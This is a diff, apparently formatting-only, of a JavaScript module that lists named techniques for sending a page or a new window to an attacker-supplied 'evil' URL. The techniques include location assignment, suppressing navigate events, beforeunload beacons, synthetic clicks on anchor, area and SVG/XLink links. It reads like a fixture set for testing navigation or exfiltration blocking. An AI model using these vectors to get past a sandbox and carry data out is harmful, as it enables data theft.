@@ -1,6 +1,6 @@
 // The page, or a new window, goes there and takes what it knows along.
 export default {
-  "location": ({ evil }) => void (location = evil),
+  location: ({ evil }) => void (location = evil),
   "location.href": ({ evil }) => void (location.href = evil),
   "location.assign": ({ evil }) => location.assign(evil),
   "location.replace": ({ evil }) => location.replace(evil),
@@ -45,8 +45,7 @@ export default {
     navigation.navigate(own + "/plain");
   },
   "with the event stopped": ({ evil }) => {
-    for (const at of [navigation, window])
-      at.addEventListener("navigate", (e) => e.stopImmediatePropagation(), true);
+    for (const at of [navigation, window]) at.addEventListener("navigate", (e) => e.stopImmediatePropagation(), true);
     location = evil;
   },
   "a beacon in beforeunload": ({ evil, own }) => {
@@ -138,7 +137,9 @@ export default {
   "a link by a dispatched click": ({ add, evil }) =>
     void add("a", { href: evil, target: "_blank" }).dispatchEvent(new MouseEvent("click")),
   "a link by a click of another interface": ({ add, evil }) =>
-    void add("a", { href: evil, target: "_blank" }).dispatchEvent(new PointerEvent("click", { bubbles: true, composed: true })),
+    void add("a", { href: evil, target: "_blank" }).dispatchEvent(
+      new PointerEvent("click", { bubbles: true, composed: true }),
+    ),
   "a link by a click of the old way": ({ add, evil }) => {
     const event = document.createEvent("MouseEvents");
     event.initMouseEvent("click", true, true, window, 1, 0, 0, 0, 0, false, false, false, false, 0, null);
@@ -302,21 +303,24 @@ export default {
     add("area", { href: evil, target: "_blank" }, map).click();
   },
   "a link of SVG": ({ add, evil }) => {
-    const a = add("div").appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
+    const a = add("div")
+      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
       .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "a"));
     a.setAttribute("href", evil);
     a.setAttribute("target", "_blank");
     a.dispatchEvent(new MouseEvent("click", { bubbles: true }));
   },
   "a link of SVG by XLink": ({ add, evil }) => {
-    const a = add("div").appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
+    const a = add("div")
+      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
       .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "a"));
     a.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", evil);
     a.setAttribute("target", "_blank");
     a.dispatchEvent(new MouseEvent("click", { bubbles: true }));
   },
   "a link of SVG by XLink with another prefix": ({ add, evil }) => {
-    const a = add("div").appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
+    const a = add("div")
+      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
       .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "a"));
     a.setAttributeNS("http://www.w3.org/1999/xlink", "x:href", evil);
     a.setAttribute("target", "_blank");
